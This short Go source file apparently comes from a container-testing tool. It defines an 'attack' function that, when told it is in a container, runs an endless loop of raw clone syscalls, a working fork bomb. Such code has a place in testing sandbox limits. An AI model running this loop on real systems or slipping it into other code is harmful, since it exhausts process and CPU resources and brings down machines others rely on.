package main

import "golang.org/x/sys/unix"

// Every process forks, and so do those, without end.
func attack(where string) {
	if where != "container" {
		return
	}
	say("start", "fork bomb")
	for {
		unix.RawSyscall(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0)
	}
}
